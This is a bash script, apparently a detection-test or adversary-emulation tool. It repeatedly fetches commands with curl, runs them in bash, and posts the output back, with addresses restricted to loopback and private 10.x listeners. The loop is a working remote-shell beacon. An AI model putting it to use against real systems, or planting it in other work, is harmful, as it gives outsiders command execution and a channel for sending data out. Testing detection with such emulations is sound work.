#!/bin/bash
# AN0401: fetches commands with curl, runs them in a shell, and sends with curl what they print, again and again.
# usage: curl-loop.sh ADDRESS PORT COUNT SECONDS
# Talks to loopback and to private 10.0.0.0/8 only: listeners that a test made.
set -u
address=${1:?address}
port=${2:?port}
count=${3:?count}
pause=${4:?seconds}
case "$address" in
  127.* | 10.*) ;;
  *) echo "$address is not a test's address" >&2; exit 64 ;;
esac
for ((i = 0; i < count && i < 100; i++)); do
  "${CURL:-curl}" -sk "https://$address:$port/" | "${SHELL_PROGRAM:-/bin/bash}" 2>&1 | "${CURL:-curl}" -sk --data-binary @- "https://$address:$port/" > /dev/null
  echo "$EPOCHREALTIME @payload" >&3
  sleep "$pause"
done
